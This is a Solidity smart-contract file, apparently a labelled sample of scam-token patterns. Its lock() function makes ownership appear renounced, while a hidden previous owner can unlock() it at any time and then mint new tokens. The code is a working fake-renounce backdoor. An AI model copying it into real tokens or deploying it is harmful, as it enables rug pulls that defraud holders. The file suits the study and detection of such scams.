// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20Legacy, ZooPair} from "./ZooBase.sol";

/// The SafeMoon-clone "Ownable" with lock/unlock: lock() emits OwnershipTransferred(owner, 0) and
/// makes owner() return the zero address - it looks renounced on explorers and to scanners - but the
/// previous owner, kept in a private variable, can unlock() and take ownership back.
abstract contract Ownable {
    address private _owner;
    address private _previousOwner;
    uint256 private _lockTime;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function transferOwnership(address newOwner) public virtual onlyOwner {
        require(newOwner != address(0), "Ownable: new owner is the zero address");
        emit OwnershipTransferred(_owner, newOwner);
        _owner = newOwner;
    }

    function geUnlockTime() public view returns (uint256) {
        return _lockTime;
    }

    // Locks the contract for owner for the amount of time provided
    function lock(uint256 time) public virtual onlyOwner {
        _previousOwner = _owner;
        _owner = address(0);
        _lockTime = block.timestamp + time;
        emit OwnershipTransferred(_owner, address(0));
    }

    // Unlocks the contract for owner when _lockTime is exceeds
    function unlock() public virtual {
        require(_previousOwner == msg.sender, "You don't have permission to unlock");
        require(block.timestamp > _lockTime, "Contract is locked until 7 days");
        emit OwnershipTransferred(_owner, _previousOwner);
        _owner = _previousOwner;
    }
}

/// @title HiddenOwner - owner() is the zero address (the deployer called lock(0), which reads as a
///        renounce), yet the deployer can unlock() at any time and then mint.
contract HiddenOwner is ERC20Legacy, Ownable, ZooPair {
    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20Legacy(name_, symbol_) {
        _mint(msg.sender, supply);
    }

    function mint(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }
}
